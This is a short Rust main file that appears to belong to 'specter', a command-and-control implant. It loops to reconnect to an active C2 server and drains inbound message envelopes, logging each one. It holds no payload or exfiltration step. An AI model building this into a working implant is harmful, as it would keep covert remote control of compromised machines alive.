use log::{debug, info};
use specter::{logging, transports};

#[tokio::main]
async fn main() {
    // Initialize logging
    logging::setup();

    // Keep re-establishing the envelope channel until the connection
    // attempt budget is exhausted. What happens to the traffic is the
    // business of the layers above the transport core; this loop only
    // drains inbound envelopes so the channel keeps breathing.
    loop {
        let connection = match transports::start_connection_loop().await {
            Some(value) => value,
            // Attempt budget exhausted, give up entirely
            None => break,
        };

        info!("Connected to {}", transports::get_active_c2());

        while let Some(envelope) = connection.recv().await {
            debug!("Inbound envelope (type: {})", envelope.r#type);
        }

        debug!("Connection closed, re-entering connection loop");
    }
}
